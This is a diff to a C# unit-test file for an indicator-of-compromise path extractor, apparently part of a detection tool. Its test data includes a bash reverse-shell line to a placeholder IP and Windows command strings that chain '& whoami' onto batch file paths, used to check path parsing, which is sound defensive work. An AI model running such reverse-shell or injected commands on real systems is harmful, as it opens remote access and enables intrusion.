@@ -46,6 +46,7 @@ namespace B64Hunt.Tests.Iocs
         [InlineData("cd /")]
         [InlineData("echo //")]
         [InlineData("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")]
+        [InlineData(@"cmd.exe /c C:\x\a.exe /q")]
         public void NonIndicatorPathsAndPiecesOfUrlsAreNotPaths(string text)
         {
             Assert.Empty(Of(text, IocTypeNames.LinuxPath));
@@ -62,6 +63,9 @@ namespace B64Hunt.Tests.Iocs
         [InlineData(@"wine ""C:\Users\Public\a.exe""", @"C:\Users\Public\a.exe")]
         [InlineData(@"copy \\fileserver\share\drop\a.ps1 .", @"\\fileserver\share\drop\a.ps1")]
         [InlineData(@"echo 'C:\ProgramData\x.dll'", @"C:\ProgramData\x.dll")]
+        [InlineData(@"start ""C:\Program Files (x86)\App\a.exe"" -q", @"C:\Program Files (x86)\App\a.exe")]
+        [InlineData(@"cmd /c ""C:\Users\a b\x.bat & whoami""", @"C:\Users\a b\x.bat")]
+        [InlineData(@"cmd /c C:\x\a.bat&whoami", @"C:\x\a.bat")]
         public void WindowsPathsAreFoundAndCutAtQuotes(string text, string path)
         {
             Single(text, IocTypeNames.WindowsPath, path);
